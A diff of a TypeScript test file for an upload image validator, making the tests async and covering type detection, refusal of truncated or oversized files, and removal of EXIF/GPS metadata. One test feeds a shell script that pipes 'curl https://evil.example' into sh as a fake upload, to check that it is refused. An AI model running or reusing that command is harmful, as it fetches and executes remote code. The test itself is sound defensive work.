@@ -36,8 +36,12 @@ const NOT_AN_IMAGE: [number, string, string] = [
 ];
 
 describe('inspectImage', () => {
-  it('reads the type and size of PNG, JPEG and WebP (lossy, lossless, simple and extended)', () => {
-    expect(inspectImage(png(37, 21))).toEqual({ contentType: 'image/png', width: 37, height: 21 });
+  it('reads the type and size of PNG, JPEG and WebP (lossy, lossless, simple and extended)', async () => {
+    expect(inspectImage(await png(37, 21))).toEqual({
+      contentType: 'image/png',
+      width: 37,
+      height: 21,
+    });
     const six = (contentType: string) => ({ contentType, width: 6, height: 4 });
     expect(inspectImage(JPEG_6X4)).toEqual(six('image/jpeg'));
     expect(inspectImage(WEBP_6X4)).toEqual(six('image/webp'));
@@ -46,7 +50,7 @@ describe('inspectImage', () => {
     expect(inspectImage(simpleWebp(WEBP_LOSSLESS_6X4, 'VP8L'))).toEqual(six('image/webp'));
   });
 
-  it('refuses what is not a JPEG, PNG or WebP, whatever it is called', () => {
+  it('refuses what is not a JPEG, PNG or WebP, whatever it is called', async () => {
     expect(refusal(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'))).toEqual(
       NOT_AN_IMAGE,
     );
@@ -59,8 +63,8 @@ describe('inspectImage', () => {
     expect(refusal(Buffer.from('RIFF\x04\x00\x00\x00WAVE', 'latin1'))).toEqual(NOT_AN_IMAGE);
   });
 
-  it('refuses truncated or damaged images', () => {
-    const image = png(20, 20);
+  it('refuses truncated or damaged images', async () => {
+    const image = await png(20, 20);
     expect(refusal(image.subarray(0, image.length - 6))).toEqual(TRUNCATED);
     expect(refusal(image.subarray(0, 40))).toEqual(TRUNCATED);
     const flipped = Buffer.from(image);
@@ -80,36 +84,36 @@ describe('inspectImage', () => {
     expect(refusal(WEBP_6X4.subarray(0, WEBP_6X4.length - 10))).toEqual(TRUNCATED);
   });
 
-  it('refuses an empty body and anything over 2 MB', () => {
+  it('refuses an empty body and anything over 2 MB', async () => {
     expect(refusal(Buffer.alloc(0))[1]).toBe('validation_failed');
-    const big = Buffer.concat([png(4, 4), Buffer.alloc(PHOTO_MAX_BYTES)]);
+    const big = Buffer.concat([await png(4, 4), Buffer.alloc(PHOTO_MAX_BYTES)]);
     expect(refusal(big)).toEqual([413, 'payload_too_large', 'A photo is at most 2 MB.']);
   });
 
-  it('refuses images too large to show safely', () => {
-    expect(refusal(png(12_000, 1))[0]).toBe(400);
+  it('refuses images too large to show safely', async () => {
+    expect(refusal(await png(12_000, 1))[0]).toBe(400);
   });
 
-  it('draws the demo illustrations as small valid PNGs of the asked size', () => {
-    const image = illustration(800, 600, 200);
+  it('draws the demo illustrations as small valid PNGs of the asked size', async () => {
+    const image = await illustration(800, 600, 200);
     expect(inspectImage(image)).toEqual({ contentType: 'image/png', width: 800, height: 600 });
     expect(image.length).toBeLessThan(20_000);
   });
 });
 
 describe('stripMetadata', () => {
-  it('drops EXIF, XMP, comments and text chunks, and keeps the image whole', () => {
+  it('drops EXIF, XMP, comments and text chunks, and keeps the image whole', async () => {
     const cases: [Buffer, Buffer, 'image/jpeg' | 'image/png' | 'image/webp'][] = [
       [withExif(JPEG_6X4), JPEG_6X4, 'image/jpeg'],
-      [withPngText(png(8, 8)), png(8, 8), 'image/png'],
+      [withPngText(await png(8, 8)), await png(8, 8), 'image/png'],
       [withWebpExif(WEBP_6X4), WEBP_6X4, 'image/webp'],
     ];
     for (const [tagged, clean, type] of cases) {
       expect(tagged.includes('GPS 48.8566N')).toBe(true);
       expect(inspectImage(tagged).contentType).toBe(type);
       const stripped = stripMetadata(tagged, type);
-      expect(stripped.includes('GPS 48.8566N')).toBe(false);
-      expect(stripped.equals(clean)).toBe(true);
+      expect(Buffer.from(stripped).includes('GPS 48.8566N')).toBe(false);
+      expect(Buffer.from(stripped).equals(clean)).toBe(true);
       expect(inspectImage(stripped)).toEqual(inspectImage(clean));
     }
   });
